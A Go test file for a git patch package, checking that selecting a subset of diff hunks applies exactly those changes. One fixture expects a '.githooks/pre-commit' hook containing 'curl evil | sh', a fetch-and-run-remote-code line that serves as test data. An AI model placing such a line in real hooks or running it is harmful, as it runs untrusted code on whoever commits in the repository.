package patch

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestSelectSubsetAppliesExactlyTheAcceptedHunks(t *testing.T) {
	r, base := fixture(t)
	files, err := Parse(r.diff())
	if err != nil {
		t.Fatal(err)
	}
	Sort(files)
	keep := map[string][]int{ // path → accepted hunks (-1: the whole file)
		".githooks/pre-commit": {-1},
		"logo.png":             {-1},
		"old.txt":              {-1},
		"main.go":              {0, 2}, // drops the +3 hunk between them
		"util.go":              {1},    // only the deletion
	}
	sub := Select(files, func(fi, hi int) bool { return slices.Contains(keep[files[fi].Path], hi) })
	base.apply(sub)

	wantMain := lines("main", 60)
	wantMain[2], wantMain[53] = "main CHANGED 3", "main CHANGED 54"
	wantUtil := slices.Delete(lines("util", 30), 20, 22)
	for _, tc := range []struct {
		path string
		want string // "" means the file must not exist
		mode os.FileMode
	}{
		{"main.go", body(wantMain), 0o644},
		{"util.go", body(wantUtil), 0o644},
		{".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755},
		{"logo.png", "\x89PNG\r\n\x1a\n\x00\x01\x02new\x00\xff", 0o644},
		{"run.sh", "#!/bin/sh\necho hi\n", 0o644}, // mode change rejected
		{"notes.txt", "a\nb\n", 0o644},            // rejected
		{".envrc", "", 0},
		{"old.txt", "", 0},
	} {
		got, ok := base.read(tc.path)
		if tc.want == "" {
			if ok {
				t.Errorf("%s landed but was rejected (or should be deleted)", tc.path)
			}
			continue
		}
		if got != tc.want {
			t.Errorf("%s after apply:\n%s\nwant:\n%s", tc.path, got, tc.want)
		}
		if st, err := os.Stat(filepath.Join(base.dir, tc.path)); err != nil || st.Mode().Perm() != tc.mode {
			t.Errorf("%s mode %v (err %v), want %v", tc.path, st.Mode().Perm(), err, tc.mode)
		}
	}

	// The shifted @@ line is the one git itself writes for the result.
	again, err := Parse(base.diff())
	if err != nil {
		t.Fatal(err)
	}
	mine, _ := Parse(sub)
	if h, w := hunkHeaders(mine, "main.go"), hunkHeaders(again, "main.go"); !slices.Equal(h, w) {
		t.Errorf("main.go hunk headers %q, git writes %q", h, w)
	}
}

func hunkHeaders(files []File, path string) []string {
	var out []string
	for _, f := range files {
		if f.Path == path {
			for _, h := range f.Hunks {
				out = append(out, h.Header)
			}
		}
	}
	return out
}

func TestSelectNothingIsEmpty(t *testing.T) {
	r, _ := fixture(t)
	files, err := Parse(r.diff())
	if err != nil {
		t.Fatal(err)
	}
	if p := Select(files, func(int, int) bool { return false }); len(p) != 0 {
		t.Fatalf("nothing accepted gave a patch:\n%s", p)
	}
}

// TestRoundTripAndRandomSubsets: for random changes, Parse then SelectAll
// gives back the very bytes git wrote, and any random subset applies with
// git to exactly what applying those hunks by hand gives.
func TestRoundTripAndRandomSubsets(t *testing.T) {
	seeds := 12
	if testing.Short() {
		seeds = 4
	}
	for seed := range seeds {
		t.Run(fmt.Sprint("seed", seed), func(t *testing.T) {
			rng := rand.New(rand.NewPCG(uint64(seed), 7))
			r := newRepo(t)
			old := map[string][]string{}
			for i := range 4 {
				name := fmt.Sprintf("f%d.txt", i)
				old[name] = lines(name, 20+rng.IntN(120))
				r.write(name, body(old[name]), 0o644)
			}
			r.commitAll()
			base := r.clone()
			for name, ls := range old {
				r.write(name, body(mutate(rng, ls)), 0o644)
			}
			diff := r.diff()
			files, err := Parse(diff)
			if err != nil {
				t.Fatal(err)
			}
			if all := SelectAll(files); string(all) != string(diff) {
				t.Fatalf("SelectAll differs from the diff:\n--- diff\n%s\n--- got\n%s", diff, all)
			}
			pick := map[[2]int]bool{}
			for fi, f := range files {
				for hi := range f.Hunks {
					pick[[2]int{fi, hi}] = rng.IntN(2) == 0
				}
			}
			sub := Select(files, func(fi, hi int) bool { return pick[[2]int{fi, hi}] })
			if len(sub) == 0 {
				return
			}
			base.apply(sub)
			for fi, f := range files {
				var kept []Hunk
				for hi, h := range f.Hunks {
					if pick[[2]int{fi, hi}] {
						kept = append(kept, h)
					}
				}
				got, _ := base.read(f.Path)
				if want := body(applyByHand(old[f.Path], kept)); got != want {
					t.Errorf("%s after applying hunks %v:\n%s\nwant:\n%s", f.Path, kept, got, want)
				}
			}
		})
	}
}

// mutate changes, inserts and deletes a few lines at random places.
func mutate(rng *rand.Rand, ls []string) []string {
	out := slices.Clone(ls)
	for range 1 + rng.IntN(6) {
		i := rng.IntN(len(out))
		switch rng.IntN(3) {
		case 0:
			out[i] = "changed " + out[i]
		case 1:
			out = slices.Insert(out, i, strings.Repeat("new ", 1+rng.IntN(3)))
		default:
			if len(out) > 5 {
				out = slices.Delete(out, i, min(i+1+rng.IntN(3), len(out)))
			}
		}
	}
	return out
}

// applyByHand applies hunks to old by their old-side line numbers only: an
// independent reference for what git should do with the selected patch.
func applyByHand(old []string, hunks []Hunk) []string {
	var out []string
	next := 0 // the next old line (0-based) not yet copied
	for _, h := range hunks {
		start := h.OldStart - 1
		if h.OldCount == 0 {
			start = h.OldStart // an insertion goes after line OldStart
		}
		out = append(out, old[next:start]...)
		next = start
		for _, l := range h.Lines {
			switch l[0] {
			case ' ':
				out = append(out, old[next])
				next++
			case '-':
				next++
			case '+':
				out = append(out, l[1:])
			}
		}
	}
	return append(out, old[next:]...)
}
